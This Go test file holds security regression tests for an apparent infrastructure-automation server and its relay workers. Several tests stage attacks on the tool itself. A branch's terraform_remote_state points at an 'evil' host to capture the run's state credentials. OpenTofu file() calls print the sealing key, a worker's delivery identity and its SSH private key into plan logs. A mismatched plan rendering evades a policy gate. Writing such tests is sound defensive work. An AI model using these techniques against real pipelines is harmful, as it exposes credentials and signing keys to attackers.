package server

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/switchtender/switchtender/seal"
	"github.com/switchtender/switchtender/server/relay"
	"github.com/switchtender/switchtender/store"
)

// attack13eRemoteState is a data source reading another state over http
// at addr, with no credentials of its own.
func attack13eRemoteState(addr string) string {
	return "data \"terraform_remote_state\" \"peek\" {\n  backend = \"http\"\n  config = {\n    address = \"" + addr + "\"\n  }\n}\n"
}

// Promise (README "Pull-request plans", server/pullrequest.go sameBackend:
// "a backend or key provider the branch chose would get the run's
// credentials", so a branch's plan runs only against the checkout's
// backend). Break: a branch that leaves the backend block alone and adds a
// data "terraform_remote_state" with backend = "http" and an address of
// its choosing. The http backend takes its username and password from
// TF_HTTP_USERNAME / TF_HTTP_PASSWORD when its config names none, in a
// terraform_remote_state as in the root's backend, so the plan of the
// branch sends the run's state credentials (basic auth, in clear) to the
// branch's host. The scan (scan/credfiles.go remoteStateReason) flags a
// remote state only for a credentials-file argument; sameBackend reads
// only backend, cloud and encryption blocks.
func TestAttack13eRemoteStateSendsStateCredentials(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	v := attack13dPR(t, map[string]string{
		"backend.tf": attack13dBackend(`"` + legit.URL + `/state"`),
		"main.tf":    attack13dResource,
	}, map[string]string{
		"peek.tf": attack13eRemoteState(evil.URL + "/other-state"),
	})
	for _, req := range seen() {
		if strings.Contains(req, "state-password-13d") {
			t.Fatalf("a branch's terraform_remote_state sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
				v.Status, v.Message, stepNames(v), seen())
		}
	}
	t.Logf("%s: %s; the branch's host saw %v", v.Status, v.Message, seen())
}

// attack13eSlowCredential is a pool template whose credential comes from
// a command that takes 3 seconds (a vault login, say), longer than pool
// eu's 2-second lease timeout and well inside the 60 seconds a credential
// command may take.
const attack13eSlowCredential = `
credential "slow13e" {
  command = ["/bin/sh", "-c", "sleep 3; echo slow-token-13e"]
  env_var = "SLOW_TOKEN_13E"
}
template "rslowcred" {
  project     = "infra"
  command     = "infra/network"
  queue       = "eu"
  credentials = ["slow13e"]
  survey "region" { type = "string" }
}
`

// Promise (relay: a lease is lost only when its worker stops
// heartbeating; "lost leases fail the run once" for a worker that went
// away). Break: take (relay_lease.go) stamps the lease's last heartbeat
// when the worker takes the offer, then prepares the job under the
// lease's lock: it claims the run (which makes the lease visible to the
// watcher: l.sink is set) and only then runs the template's credential
// commands on the control node. The watcher (relay_end.go expire) blocks
// on the lease's lock meanwhile, and as soon as prepare returns it finds
// no heartbeat for longer than the lease timeout, a heartbeat the worker
// could not send before it had its job, and fails the run as "Worker w1
// ... stopped heartbeating during preparation". A credential command
// slower than lease_timeout (default 30s, while a command may take 60s)
// fails every run of its template on a pool, blaming an idle, healthy
// worker; and while it runs, the watcher expires no other lease and
// takes back no unanswered offer.
func TestAttack13eSlowCredentialCommandLosesTheLease(t *testing.T) {
	h, keys, identity := relayHarness(t, attack13eSlowCredential)
	startWorker(t, relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity))
	v := h.launchWait("alice", "rslowcred", "--dry-run", "--var", "region=slow")
	if statusOf(v.Run) != StatusSucceeded {
		t.Fatalf("a run whose credential command took 3s (lease timeout 2s) on a healthy worker: %s: %s", v.Status, v.Message)
	}
}

// Promise (README `cancel`: a cancel ends the run; 13b fixed a pool run
// cancelled while its apply phase waited in the queue). Break: the
// window between an offer and its take. A plan no rule held is passed on
// (passOn) and its apply phase offered to a polling worker; while the
// offer is unanswered it is in no queue (dispatch moved it to
// w.offered) and under no lease, so cancelRun's relay.cancel neither
// dequeues it (dequeue looks at the queues only) nor signals anyone: the
// run keeps status running with CancelRequested set. If the worker never
// answers, expire puts it back in the queue, still running; if it then
// takes it, claim refuses a cancelled apply phase and prepare only
// releases the lease: the run is in no queue, under no lease, and ends
// never ("running" for ever, a second cancel changes nothing).
func TestAttack13eCancelDuringApplyOfferStrandsTheRun(t *testing.T) {
	h, keys, _ := relayHarness(t, attack13bData)
	attack13bTofu(t, h, "infra/data", "init", "-input=false")
	plan, js := attack13bPlan(t, h)
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu", Version: "raw"})
	ch := attack13bReader(raw)
	id, job := attack13bLease(t, h, raw, ch, "rdata")
	if !job.Gated {
		t.Fatalf("job %+v is not a gated plan", job)
	}
	attack13bHandOver(raw, id, job.Token, plan, js)
	attack13bSettle(h, id, 15*time.Second)
	if r, _ := h.srv.db.GetRun(id); Phase(r.Phase) != phaseApply || Status(r.Status) != StatusRunning {
		t.Fatalf("the plan was not passed on: %s %s %s", r.Status, r.Phase, r.Message)
	}
	raw.send(relay.Msg{Type: relay.MsgPoll})
	offer, ok := attack13bNext(ch, relay.MsgOffer, 10*time.Second)
	if !ok || offer.Run != id {
		t.Fatalf("the apply phase was not offered: %+v", offer)
	}
	h.mustSSH("alice", "cancel", id) // the offer is not answered yet
	time.Sleep(4 * time.Second)      // the offer times out (2s) and goes back to the queue
	raw.send(relay.Msg{Type: relay.MsgPoll})
	if again, ok := attack13bNext(ch, relay.MsgOffer, 10*time.Second); ok {
		raw.send(relay.Msg{Type: relay.MsgTake, Run: again.Run})
		if m, ok := attack13bNext(ch, relay.MsgReject, 10*time.Second); ok {
			t.Logf("take answered: %s", m.Message)
		}
	}
	h.ssh("alice", "cancel", id)
	deadline := time.Now().Add(8 * time.Second)
	var r store.Run
	for time.Now().Before(deadline) {
		if r, _ = h.srv.db.GetRun(id); Status(r.Status) != StatusRunning {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	if Status(r.Status) == StatusRunning {
		t.Fatalf("run %s, cancelled by alice while its apply phase was offered to a worker, is still running (cancel requested by %q), in no queue (%q) and under no lease; nothing will end it",
			id, r.CancelRequested, h.srv.relay.waitReason(id))
	}
	if r.AppliedBy != "" || Status(r.Status) == StatusSucceeded {
		t.Fatalf("the cancelled run was applied: %s by %q", r.Status, r.AppliedBy)
	}
}

// Promise (relay: the scan runs on the worker, in the run's private
// directory under data_dir; any data_dir works). Break: a worker whose
// data_dir lies inside its checkout (a worker file kept in the
// repository, data_dir = "./data") cannot scan anything: the scan's copy
// (scanCopyOf -> copyConfiguration) walks the whole checkout, reaches
// the run's own private directory and copies the copy into itself, level
// after level, until the path is too long; every scanned dry run, check
// and pull-request plan of the pool on that worker is refused, "The
// configuration cannot be copied for the scan", for a clean
// configuration.
func TestAttack13eWorkerDataDirInsideCheckout(t *testing.T) {
	h, keys, identity := relayHarness(t, relayScanConfig)
	w1 := scanWorkerCfg(t, h, "w1", keys["w1"], identity)
	w1.DataDir = filepath.Join(w1.Projects["infra"].Path, "worker-data")
	startWorker(t, w1)
	v := h.launchWait("alice", "rs-clean", "--dry-run")
	if statusOf(v.Run) != StatusSucceeded {
		t.Fatalf("a clean scanned dry run on a worker whose data_dir is inside its checkout: %s: %.600s", v.Status, v.Message)
	}
}

// The same on the control node: with the server's data_dir inside the
// project's checkout (its default, "<config dir>/data", when the
// configuration file is kept in the repository it serves), a clean
// scanned dry run is refused because the scan's copy copies itself.
func TestAttack13eControlDataDirInsideCheckout(t *testing.T) {
	h := writeHarness(t, "", `
rule "review13e" {
  templates        = ["clean13e"]
  require_approval = true
  exclude_dry_run  = true
  approvers        = ["bob"]
}
template "clean13e" {
  project = "infra"
  command = "infra/clean13e"
}
`)
	attack13dWrite(t, filepath.Join(h.project, "infra/clean13e"), map[string]string{"main.tf": attack13dResource})
	cfg, err := os.ReadFile(h.cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	inside := filepath.Join(h.project, "data")
	cfg = []byte(strings.Replace(string(cfg), strconv.Quote(filepath.Join(h.dir, "data")), strconv.Quote(inside), 1))
	if err := os.WriteFile(h.cfgPath, cfg, 0o600); err != nil {
		t.Fatal(err)
	}
	h.start()
	v := h.launchWait("alice", "clean13e", "--dry-run")
	if statusOf(v.Run) != StatusSucceeded {
		t.Fatalf("a clean scanned dry run with data_dir inside the checkout: %s: %.400s", v.Status, v.Message)
	}
}

// Promise (README `cancel`: a running run's tool is interrupted and the
// run ends cancelled; a cancelled apply never applies; "cancel works at
// every point" on a pool). Break: the lease exists from the take, but the
// job reaches the worker only after prepare (claim, credentials, sealing)
// returns. A cancel in between finds the lease, and relayHub.cancel sends
// the worker its cancel message at once, before the job: the worker has
// no current run, so handle drops it (cur == nil), then takes the job and
// runs it to the end. Its success is recorded as is (result does not look
// at CancelRequested): an ungated apply alice cancelled applies on the
// worker and ends "succeeded". The window is as long as the template's
// credential commands take.
func TestAttack13eCancelBeforeTheJobIsDropped(t *testing.T) {
	h, keys, identity := relayHarness(t, attack13eSlowCredential)
	h.srv.relay.mu.Lock()
	h.srv.relay.timeout["eu"] = time.Minute // no lease is lost here
	h.srv.relay.mu.Unlock()
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	startWorker(t, w1)
	waitFor(t, "w1 to connect", 20*time.Second, func() bool { return strings.Contains(h.mustSSH("alice", "workers"), "w1") })
	id := runIDOf(t, h.mustSSH("alice", "launch", "rslowcred", "--var", "region=cancelled", "--json"))
	waitFor(t, "the run to be claimed", 20*time.Second, func() bool {
		r, _ := h.srv.db.GetRun(id)
		return Status(r.Status) != StatusQueued
	})
	out, errOut, code := h.ssh("alice", "cancel", id) // the credential command is still running
	t.Logf("cancel: %d %s %s", code, strings.TrimSpace(out), strings.TrimSpace(errOut))
	h.waitStatus(id, StatusCancelled, StatusSucceeded, StatusFailed)
	r, _ := h.srv.db.GetRun(id)
	state := filepath.Join(w1.Projects["infra"].Path, "infra/network/terraform.tfstate")
	_, applied := os.Stat(state)
	if Status(r.Status) != StatusCancelled || applied == nil {
		b, _ := os.ReadFile(state)
		t.Fatalf("an apply cancelled by alice (%q) before its job reached the worker ended %s (%s); steps %v; the worker's state: %.200s",
			r.CancelRequested, r.Status, r.Message, stepNames(runView{Run: r}), b)
	}
}

// The remote-state break of TestAttack13eRemoteStateSendsStateCredentials
// on a relay worker: the worker's scan finds nothing in the branch, its
// export's sameBackend compares only the backend blocks, and its plan
// sends the run's TF_HTTP_USERNAME/PASSWORD to the branch's host.
func TestAttack13eRemoteStateSendsStateCredentialsOnWorker(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	h, keys, identity := relayHarness(t, relayScanConfig+attack13cHTTPStateConfig)
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	checkout := w1.Projects["infra"].Path
	wd := filepath.Join(checkout, "infra/data")
	git := gitIn(t, checkout)
	git("init", "-q", "-b", "main")
	attack13dWrite(t, wd, map[string]string{"backend.tf": attack13dBackend(`"` + legit.URL + `/state"`)})
	git("add", "-A")
	git("commit", "-q", "-m", "main")
	git("checkout", "-q", "-b", "peek")
	attack13dWrite(t, wd, map[string]string{"peek.tf": attack13eRemoteState(evil.URL + "/other-state")})
	git("add", "-A")
	git("commit", "-q", "-m", "read another state")
	git("checkout", "-q", "main")
	startWorker(t, w1)

	v := h.launchWait("alice", "rprhttp", "--dry-run", "--ref", "peek")
	for _, req := range seen() {
		if strings.Contains(req, "state-password-13c") {
			t.Fatalf("a pull request's plan on worker w1 sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
				v.Status, v.Message, stepNames(v), seen())
		}
	}
	t.Logf("%s: %s; the branch's host saw %v", v.Status, v.Message, seen())
}

// Promise (13d's fix, relay_end.go result: "anything else counts as
// failed" for a result a job cannot have). Break: the same hole remains
// for "stale" and "cancelled". A worker reports a dry run, which has no
// saved plan to go stale, "stale", and another, which nobody cancelled,
// "cancelled" with a message of its own: the first is recorded as stale
// with the control node's sentence that "the state changed after its
// plan was made", the second as cancelled with the worker's sentence
// ("Cancelled by bob ..."), though nobody cancelled it.
func TestAttack13eWorkerResultsAJobCannotHave(t *testing.T) {
	h, keys, _ := relayHarness(t, "")
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	for _, st := range []Status{StatusStale, StatusCancelled} {
		id, job := attack13cTake(t, h, raw, "rnet", "--dry-run", "--var", "region="+string(st))
		raw.send(relay.Msg{Type: relay.MsgResult, Run: id, Token: job.Token, Status: st, Exit: 1,
			Message: "Cancelled by bob during plan on worker w2."})
		h.waitStatus(id, StatusStale, StatusCancelled, StatusFailed)
		r, _ := h.srv.db.GetRun(id)
		if Status(r.Status) == st {
			t.Errorf("a worker's %q for a dry run nobody cancelled and that holds no saved plan was recorded as the run's: %s: %s (cancel requested by %q)",
				st, r.Status, r.Message, r.CancelRequested)
		}
	}
}

// Promise (README "Draining a worker": SIGTERM makes a worker take no new
// run and finish the one it has; lost leases are for workers that went
// away). Break: the worker's session treats a run it has taken but whose
// job has not arrived yet as no run at all. The worker answers an offer
// with take at once (sessionState.handle); the job follows only after
// the control node's prepare (claim, credential commands, sealing). A
// drain in between finds st.cur == nil, so the worker sends drain and
// returns errDrained at once, closing the connection, while the control
// node leases it the run and sends the job into the closed session. The
// run was taken and never run: it fails when the lease times out, as
// "Worker w1 ... stopped heartbeating during preparation", after the
// audit said the drain "finishes run N".
func TestAttack13eDrainBetweenTakeAndJobLosesTheRun(t *testing.T) {
	h, keys, identity := relayHarness(t, attack13eSlowCredential)
	h.srv.relay.mu.Lock()
	h.srv.relay.timeout["eu"] = 8 * time.Second // longer than the credential command
	h.srv.relay.mu.Unlock()
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	errs, drain := startWorker(t, w1)
	waitFor(t, "w1 to connect", 20*time.Second, func() bool { return strings.Contains(h.mustSSH("alice", "workers"), "w1") })
	id := runIDOf(t, h.mustSSH("alice", "launch", "rslowcred", "--dry-run", "--var", "region=drain", "--json"))
	waitFor(t, "w1 to take the run", 20*time.Second, func() bool {
		r, _ := h.srv.db.GetRun(id)
		return Status(r.Status) != StatusQueued
	})
	drain() // SIGTERM while the control node prepares the job w1 took
	select {
	case err := <-errs:
		t.Logf("the worker returned %v", err)
	case <-time.After(30 * time.Second):
		t.Fatal("the drained worker did not return")
	}
	h.waitStatus(id, StatusSucceeded, StatusFailed, StatusInterrupted, StatusCancelled)
	r, _ := h.srv.db.GetRun(id)
	if Status(r.Status) != StatusSucceeded {
		t.Fatalf("run %s, taken by w1 just before its drain, ended %s: %s\naudit:\n%s", id, r.Status, r.Message, h.mustSSH("alice", "audit", "--run", id))
	}
}

// attack13eLocalSecret is a template the control node runs itself, over
// the same project as the pools' templates, with a secret answer.
const attack13eLocalSecret = `
template "lsecret13e" {
  project = "infra"
  command = "infra/secret"
  survey "db_password" { type = "string" }
}
`

// Promise (no secret answer leaks; the control node keeps the keys; a
// pool without a delivery key runs a run that holds no secret). Break:
// relayHub.payload calls rememberSecrets, which adds every secret answer
// any earlier run of the same project gave (on the control node, on any
// pool, for any template) to the masker, and sends the masker's whole
// list in the payload's Secrets. So (1) a worker of pool eu, running a
// dry run of rnet that holds no secret at all, receives in its payload
// the database password alice answered for a run the control node
// executed itself, a run no worker had any part in; and (2) pool bare,
// without a delivery key, refuses every later run of the project, also
// those with no credential and no secret answer, "so the run's
// credentials and secret answers cannot reach its workers sealed".
func TestAttack13eEarlierSecretAnswersGoToEveryWorker(t *testing.T) {
	const prod = "prod-db-password-13e"
	h, keys, identity := relayHarness(t, attack13eLocalSecret)
	if v := h.launchWait("alice", "lsecret13e", "--dry-run", "--var", "db_password="+prod); v.PlannedBy != "" {
		t.Fatalf("the local template ran on a worker: %+v", v.PlannedBy)
	}
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	id, job := attack13cTake(t, h, raw, "rnet", "--dry-run", "--var", "region=nosecret")
	key, err := seal.LoadKey(identity)
	if err != nil {
		t.Fatal(err)
	}
	plain, _, err := seal.Open(key, id, job.Payload)
	if err != nil {
		t.Fatal(err)
	}
	var p relay.Payload
	if err := json.Unmarshal(plain, &p); err != nil {
		t.Fatal(err)
	}
	if slices.Contains(p.Secrets, prod) {
		t.Errorf("worker w2 received, for a dry run of rnet with no secret (vars %v, env %v), the password alice answered for run 1 on the control node: secrets %q",
			p.Vars, p.Env, p.Secrets)
	}

	bare, _ := dialRaw(t, h, keys["b1"], relay.Msg{Name: "b1", Pool: "bare"})
	bare.send(relay.Msg{Type: relay.MsgPoll})
	bid := runIDOf(t, h.mustSSH("alice", "launch", "bnet", "--dry-run", "--var", "region=nosecret", "--json"))
	if m := bare.recv(); m.Type != relay.MsgOffer || m.Run != bid {
		t.Fatalf("offer %+v", m)
	}
	bare.send(relay.Msg{Type: relay.MsgTake, Run: bid})
	if m := bare.recv(); m.Type != relay.MsgJob {
		r, _ := h.srv.db.GetRun(bid)
		t.Errorf("a dry run of bnet with no credential and no secret answer was refused on pool bare because of an earlier run's answer: %s: %s", r.Status, r.Message)
	}
}

// attack13ePrimaryPolicy denies any plan that destroys or replaces
// terraform_data.server[0].
const attack13ePrimaryPolicy = `package switchtender.plan

deny contains msg if {
	some rc in input.plan.resource_changes
	rc.address == "terraform_data.server[0]"
	"delete" in rc.change.actions
	msg := "terraform_data.server[0] is the primary: it is never destroyed or replaced here"
}
`

// attack13ePlanTarget makes a real saved plan of infra/data by hand that
// replaces only target, and its real show -json.
func attack13ePlanTarget(t *testing.T, h *harness, target string) (plan, js []byte) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "p.tfplan")
	attack13bTofu(t, h, "infra/data", "plan", "-input=false", "-var", "generation=2", "-target="+target, "-out="+path)
	js = attack13bTofu(t, h, "infra/data", "show", "-json", path)
	if i := strings.IndexByte(string(js), '{'); i > 0 {
		js = js[i:]
	}
	plan, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return plan, []byte(strings.TrimSpace(string(js)))
}

// Promise (13b's fix, relay_plan.go renderingIsThePlans: "the gate
// decides on what the plan does, not on what a worker says it does").
// Break: the check compares only how many changes of each action the
// rendering and the plan file count (gate.SameActions), never which
// resources they are. A plan_gate forbids replacing
// terraform_data.server[0]; a worker hands over a real plan that replaces
// server[0] with the real rendering of a plan that replaces server[2]:
// one replace each, so the check passes, the policy reads server[2],
// allows it, and the plan that replaces the primary is sealed and queued
// for the pool's next worker to apply, weighed by nobody.
func TestAttack13eRenderingOfAnotherResource(t *testing.T) {
	policy := filepath.Join(t.TempDir(), "primary.rego")
	if err := os.WriteFile(policy, []byte(attack13ePrimaryPolicy), 0o644); err != nil {
		t.Fatal(err)
	}
	h, keys, _ := relayHarness(t, `
template "rdata13e" {
  project = "infra"
  command = "infra/data"
  queue   = "eu"
}
rule "primary13e" {
  templates = ["rdata13e"]
  kinds     = ["apply"]
  plan_gate = "`+policy+`"
}
`)
	attack13bTofu(t, h, "infra/data", "init", "-input=false")
	attack13bTofu(t, h, "infra/data", "apply", "-auto-approve", "-input=false")
	plan, honest := attack13ePlanTarget(t, h, "terraform_data.server[0]")
	_, js := attack13ePlanTarget(t, h, "terraform_data.server[2]")
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu", Version: "raw"})
	ch := attack13bReader(raw)
	// With its own rendering the plan is stopped by the policy.
	id, job := attack13bLease(t, h, raw, ch, "rdata13e")
	attack13bHandOver(raw, id, job.Token, plan, honest)
	attack13bSettle(h, id, 15*time.Second)
	if r, _ := h.srv.db.GetRun(id); Phase(r.Phase) == phaseApply || !strings.Contains(r.Message, "primary") {
		t.Fatalf("the policy did not stop the honest rendering: %s %s: %s", r.Status, r.Phase, r.Message)
	}
	id, job = attack13bLease(t, h, raw, ch, "rdata13e")
	if !job.Gated {
		t.Fatalf("job %+v is not a gated plan", job)
	}
	attack13bHandOver(raw, id, job.Token, plan, js)
	attack13bSettle(h, id, 15*time.Second)
	r, _ := h.srv.db.GetRun(id)
	t.Logf("%s %s: %s", r.Status, r.Phase, r.Message)
	if Phase(r.Phase) == phaseApply && Status(r.Status) == StatusRunning {
		t.Fatalf("a plan replacing terraform_data.server[0], which the plan_gate forbids, passed the rules on a rendering that replaces server[2] and is queued to apply (digest %s)", r.Proposal.Digest)
	}
}

// Held: the control node reads a worker's messages in order, so a worker
// that pipelines its scan and a saved plan for a drift check (without
// waiting for scan_pass) gets scan_stop for a finding and its plan
// rejected: the check is held at the scan stage and keeps no plan. And a
// run waiting for its scan's verdict when the control node restarts is
// marked interrupted; the worker's scan sent to the new control node with
// its old lease is rejected and records nothing.
func TestAttack13eScanVerdictRacesHeld(t *testing.T) {
	h, keys, _ := relayHarness(t, relayScanConfig)
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	ch := attack13bReader(raw)
	id, job := attack13bLease(t, h, raw, ch, "rs-deep", "--check")
	if job.ScanWhy == "" || Kind(job.Kind) != KindCheck {
		t.Fatalf("job %+v", job)
	}
	raw.send(relay.Msg{Type: relay.MsgScanned, Run: id, Token: job.Token, Scan: attack13cEvidence(store.Finding{
		Address: "module.a.module.b.data.external.x", File: "infra/scan/deep/a/b/main.tf", Line: 1, Reason: "runs a program"})})
	attack13bHandOver(raw, id, job.Token, []byte("not a plan"), []byte("{}"))
	if m, ok := attack13bNext(ch, relay.MsgScanStop, 10*time.Second); !ok {
		t.Fatalf("no scan_stop: %+v", m)
	}
	for range 5 { // planning, plan_start, two chunks, plan_end
		if m, ok := attack13bNext(ch, relay.MsgReject, 10*time.Second); !ok {
			t.Fatalf("a pipelined plan message was not rejected: %+v", m)
		}
	}
	h.waitStatus(id, StatusAwaitingApproval, StatusFailed)
	r, _ := h.srv.db.GetRun(id)
	if Status(r.Status) != StatusAwaitingApproval || r.Proposal == nil || Stage(r.Proposal.Stage) != StageScan || r.Check != nil {
		t.Fatalf("the pipelined check: %s (%s), proposal %+v, check %+v", r.Status, r.Message, r.Proposal, r.Check)
	}

	id, job = attack13bLease(t, h, raw, ch, "rs-clean", "--dry-run")
	h.waitStatus(id, StatusRunning)
	h.restart()
	late, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	late.send(relay.Msg{Type: relay.MsgScanned, Run: id, Token: job.Token, Scan: attack13cEvidence()})
	if m := late.recv(); m.Type != relay.MsgReject {
		t.Fatalf("a scan from before the restart was answered %+v", m)
	}
	if r, _ := h.srv.db.GetRun(id); Status(r.Status) != StatusInterrupted || r.Scan != nil {
		t.Fatalf("the run waiting for its verdict across a restart: %s (%s), scan %+v", r.Status, r.Message, r.Scan)
	}
}

// Promise (README "Pull-request plans": a branch is scanned and planned
// in a private tree, and nothing it holds runs code; no secret leaks to
// logs or show). Break: OpenTofu's file() reads any path the tool's user
// can read, and the scan refuses file-reading functions only in the
// backend, cloud and encryption blocks (scan/backend.go). A branch that
// adds a resource whose input is file("<data_dir>/seal.key") has its
// pull request's plan print the server's sealing key (which opens every
// sealed plan and secret answer in the store) into the run's log, where
// `log` and `show` hand it to whoever reads the run; the SSH host key the
// same way.
func TestAttack13ePullRequestReadsTheSealKey(t *testing.T) {
	var dataDir string
	var hh *harness
	v := attack13dPRWith(t, map[string]string{"main.tf": attack13dResource}, func(h *harness, wd string) {
		hh = h
		dataDir = filepath.Join(h.dir, "data")
		attack13dWrite(t, wd, map[string]string{"peek.tf": "resource \"terraform_data\" \"peek\" {\n  input = file(\"" +
			filepath.Join(dataDir, "seal.key") + "\")\n}\n"})
	})
	key, err := os.ReadFile(filepath.Join(dataDir, "seal.key"))
	if err != nil {
		t.Fatal(err)
	}
	var identity string
	for _, line := range strings.Split(string(key), "\n") {
		if strings.HasPrefix(line, "AGE-SECRET-KEY-") {
			identity = line
		}
	}
	if identity == "" {
		t.Fatalf("no identity line in the seal key:\n%s", key)
	}
	t.Logf("%s: %s; steps %v", v.Status, v.Message, stepNames(v))
	if log := hh.mustSSH("alice", "log", v.ID); strings.Contains(log, identity) {
		t.Fatalf("a branch's file() put the server's sealing key into its pull request's plan log (%s):\n%.1200s", v.Status, log)
	}
}

// The same on a relay worker: a branch's file() reads the pool's delivery
// identity (which opens the sealed payload, credentials and secret
// answers, of every run of the pool) and the worker's own SSH key, and
// its pull request's plan prints both into the run's log on the control
// node.
func TestAttack13ePullRequestReadsWorkerKeys(t *testing.T) {
	h, keys, identity := relayHarness(t, relayScanConfig)
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	checkout := w1.Projects["infra"].Path
	git := gitIn(t, checkout)
	git("init", "-q", "-b", "main")
	git("add", "-A")
	git("commit", "-q", "-m", "main")
	git("checkout", "-q", "-b", "peek")
	attack13dWrite(t, filepath.Join(checkout, "infra/data"), map[string]string{"peek.tf": "resource \"terraform_data\" \"peek\" {\n" +
		"  input = [file(\"" + w1.DeliveryIdentity + "\"), file(\"" + w1.Key + "\")]\n}\n"})
	git("add", "-A")
	git("commit", "-q", "-m", "peek")
	git("checkout", "-q", "main")
	startWorker(t, w1)

	v := h.launchWait("alice", "rpr", "--dry-run", "--ref", "peek")
	log := h.mustSSH("alice", "log", v.ID)
	t.Logf("%s: %s; steps %v", v.Status, v.Message, stepNames(v))
	delivery, _ := os.ReadFile(w1.DeliveryIdentity)
	for _, line := range strings.Split(string(delivery), "\n") {
		if strings.HasPrefix(line, "AGE-SECRET-KEY-") && strings.Contains(log, line) {
			t.Errorf("a branch's file() put pool eu's delivery identity into the plan log")
		}
	}
	if strings.Contains(log, "OPENSSH PRIVATE KEY") {
		t.Errorf("a branch's file() put worker w1's SSH private key into the plan log")
	}
}
